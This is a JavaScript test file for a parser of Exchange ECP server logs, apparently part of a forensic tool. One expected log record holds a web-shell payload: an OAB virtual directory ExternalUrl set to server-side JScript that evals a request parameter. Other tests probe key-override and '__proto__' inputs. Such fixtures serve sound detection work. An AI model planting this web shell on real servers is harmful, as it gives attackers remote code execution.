import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { bytesInput, fixturePath, parseAll } from '../testutil.js';
import { parseEcp } from './ecp-parser.js';
import { parseEventData } from './event-data.js';

const FIXTURE = readFileSync(fixturePath('ecp-server-synthetic.log'));

describe('parseEcp', () => {
  it('reads the columns and exposes each EventData pair as a field', async () => {
    const { records, diagnostics, stats } = await parseAll(parseEcp, bytesInput('ECP/Server/ECPServer20210303-1.LOG', FIXTURE));
    assert.deepEqual(diagnostics, []);
    assert.deepEqual(
      records.map((r) => [r.kind, r.origin.line, r.time, r.get('CMD')]),
      [
        ['ecp', 7, '2021-03-03T01:02:03.456Z', 'Get-InboxRule'],
        [
          'ecp',
          8,
          '2021-03-03T02:15:00.789Z',
          `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>'.Identity='8a1e3c2b-0000-0000-0000-0000000000aa'`,
        ],
        ['ecp', 9, '2021-03-03T02:16:30.001Z', "Set-OabVirtualDirectory.ExternalUrl=''.Identity='8a1e3c2b-0000-0000-0000-0000000000aa'"],
      ],
    );
    const attack = records[1];
    assert.equal(attack?.get('url'), '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory');
    assert.equal(attack?.get('SID'), '3d9f6f40-8bb9-4f47-9d8e-7c1e5b2a0002');
    assert.equal(attack?.get('REQID'), '', 'an empty pair is present and empty');
    assert.equal(attack?.get('BLD'), '15.1.2176.2', 'the trailing `;` is not part of the last value');
    assert.equal(attack?.get('ServerName'), 'EXCH01');
    assert.match(attack?.get('EventData') ?? '', /^S:TIME=120;S:SID=.*S:BLD=15\.1\.2176\.2;$/);
    const fields = attack?.fields() ?? {};
    assert.equal(fields.CMD, attack?.get('CMD'));
    assert.equal(fields.EventId, 'Cmdlet');
    assert.deepEqual(stats, {
      entries: 3,
      oldest: '2021-03-03T01:02:03.456Z',
      newest: '2021-03-03T02:16:30.001Z',
      serverName: 'EXCH01',
      version: '15.01.2176.002',
      encoding: 'utf8',
    });
  });

  it('accepts the plain-header layout too', async () => {
    const text = 'TimeStamp,ServerName,EventId,EventData\r\n2021-03-03T01:00:00.000Z,EXCH02,Cmdlet,S:CMD=Get-Mailbox;S:RS=0;\r\n';
    const { records, stats } = await parseAll(parseEcp, bytesInput('a.log', Buffer.from(text)));
    assert.equal(records[0]?.get('cmd'), 'Get-Mailbox');
    assert.equal(stats.entries, 1);
    assert.equal(stats.serverName, 'EXCH02');
  });
});

describe('parseEventData', () => {
  it('splits only at `;S:` so values keep their own semicolons', () => {
    const d = parseEventData("S:CMD=Set-X.Url='<script>a();b;c</script>';S:URL=/ecp/x;");
    assert.deepEqual({ ...d }, { CMD: "Set-X.Url='<script>a();b;c</script>'", URL: '/ecp/x' });
  });

  it('keeps the first occurrence of a key, so a value cannot override it', () => {
    const d = parseEventData("S:CMD=Set-OabVirtualDirectory.ExternalUrl='x';S:CMD=Get-Mailbox';S:RS=0;");
    assert.equal(d.CMD, "Set-OabVirtualDirectory.ExternalUrl='x'");
  });

  it('keeps odd keys as plain data and ignores text that is not pairs', () => {
    const d = parseEventData('S:__proto__=polluted;S:constructor=x;S:=nokey;');
    assert.equal(Object.getPrototypeOf(d), null);
    assert.equal(d.__proto__, 'polluted');
    assert.equal(d.constructor, 'x;S:=nokey', 'no key after `;S:`: not a pair boundary');
    assert.deepEqual(Object.keys(parseEventData('free text, no pairs')), []);
  });
});
